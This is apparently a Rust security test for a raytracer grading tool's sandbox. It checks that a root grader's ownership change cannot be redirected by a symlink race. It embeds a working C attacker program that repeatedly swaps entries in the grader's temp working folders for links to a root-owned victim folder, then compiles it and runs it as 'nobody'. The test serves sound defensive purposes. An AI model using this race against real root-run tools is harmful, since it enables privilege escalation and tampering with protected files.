//! Attacks on `raytracer grade`'s sandbox by a student who wants more
//! than marks.
//!
//! The link swap: a root grader gives each scene's working folder to the
//! user the program runs as. A student process that outlived its run (or
//! any process of that user) replaces every entry it can in every working
//! folder with a link to a folder of root's, for the whole run, hoping the
//! grader changes the owner of what a link points to. The attacker is a C
//! program, as a student would write it, built here with `cc`, run as
//! `nobody`; each scene references a few hundred textures, so the grader's
//! walk over a working folder takes long enough to be raced. The victim's
//! owner and mode must be what they were. The vector exists only where
//! the grader is root: an ordinary user's grader changes no owner.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, Stdio};

use crate::grade_cli::{binary, open_folder};
use crate::support;

/// Replaces every entry it may rename under each `raytracer-grade-*`
/// folder of TMP with a link to VICTIM, over and over, until STOP exists.
const SWAPPER: &str = r#"
#include <dirent.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *victim;

static void swap_under(const char *dir) {
    DIR *d = opendir(dir);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char path[PATH_MAX], moved[PATH_MAX];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        snprintf(moved, sizeof moved, "%s/.%s", dir, e->d_name);
        if (e->d_type == DT_DIR) swap_under(path);
        if (rename(path, moved) == 0) symlink(victim, path);
    }
    closedir(d);
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    victim = argv[2];
    while (access(argv[3], F_OK) != 0) {
        DIR *d = opendir(argv[1]);
        if (!d) return 3;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (strncmp(e->d_name, "raytracer-grade-", 16) != 0) continue;
            char path[PATH_MAX];
            snprintf(path, sizeof path, "%s/%s", argv[1], e->d_name);
            swap_under(path);
        }
        closedir(d);
    }
    return 0;
}
"#;

/// Scenes in the suite, and textures each references.
const SCENES: usize = 3;
const TEXTURES: usize = 300;

/// The owner, group and mode of `path`, not following a link.
fn stat(path: &Path) -> (u32, u32, u32) {
    let m = std::fs::symlink_metadata(path).unwrap();
    (m.uid(), m.gid(), m.permissions().mode())
}

#[test]
fn a_link_swapped_into_a_working_folder_never_redirects_the_chown() {
    if !support::is_root() {
        assert!(
            !support::under_ci(),
            "CI runs as root, where this vector exists"
        );
        support::skipped("the link swap: only a root grader changes owners");
        return;
    }
    if !support::tool_available("cc", "the link-swap attack", "apt-get install gcc") {
        return;
    }
    let dir = open_folder("grade-swap-");
    let d = dir.path();

    // The victim: root's, closed to everyone else.
    let victim = d.join("victim");
    std::fs::create_dir(&victim).unwrap();
    std::fs::write(victim.join("secret"), "root only\n").unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::set_permissions(
        victim.join("secret"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    let before = [stat(&victim), stat(&victim.join("secret"))];

    // The suite: scenes whose textures fill a folder the walk must cross.
    let suite = d.join("suite");
    std::fs::create_dir_all(suite.join("t")).unwrap();
    for t in 0..TEXTURES {
        std::fs::write(
            suite.join(format!("t/{t:03}.ppm")),
            "P3 1 1 255 200 100 50\n",
        )
        .unwrap();
    }
    for s in 0..SCENES {
        let mut scene = String::from("camera 4\n");
        for t in 0..TEXTURES {
            scene.push_str(&format!(
                "sphere\ndimension .01\ncenter {} 0 -5\ntexture t/{t:03}.ppm\n",
                t as f64 * 0.001
            ));
        }
        std::fs::write(suite.join(format!("scene{s}.txt")), scene).unwrap();
    }

    // The grader's temporary folder, /tmp's kind, watched by the attacker
    // alone (other tests' working folders are elsewhere).
    let tmp = d.join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o1777)).unwrap();

    let source = d.join("swapper.c");
    std::fs::write(&source, SWAPPER).unwrap();
    let swapper = d.join("swapper");
    let built = Command::new("cc")
        .arg("-O2")
        .arg("-o")
        .arg(&swapper)
        .arg(&source)
        .output()
        .unwrap();
    assert!(
        built.status.success(),
        "{}",
        String::from_utf8_lossy(&built.stderr)
    );
    let stop = d.join("stop");
    let mut attacker = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&swapper)
        .args([&tmp, &victim, &stop])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();

    let report = d.join("report");
    let output = Command::new(binary())
        .args([
            "grade",
            "--tracer",
            "true {scene} {out}",
            "--timeout",
            "5",
            "-o",
        ])
        .arg(&report)
        .arg("--cache")
        .arg(d.join("cache"))
        .arg(&suite)
        .env("TMPDIR", &tmp)
        .output()
        .unwrap();
    std::fs::write(&stop, "").unwrap();
    let attacker_status = attacker.wait().unwrap();
    assert!(
        attacker_status.success(),
        "the attacker failed: {attacker_status}"
    );

    let after = [stat(&victim), stat(&victim.join("secret"))];
    assert_eq!(
        before,
        after,
        "the victim's owner or mode changed; grade said: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let summary: serde_json::Value =
        serde_json::from_slice(&std::fs::read(report.join("summary.json")).unwrap()).unwrap();
    assert_eq!(
        summary["scenes"].as_array().unwrap().len(),
        SCENES,
        "{summary}"
    );
}
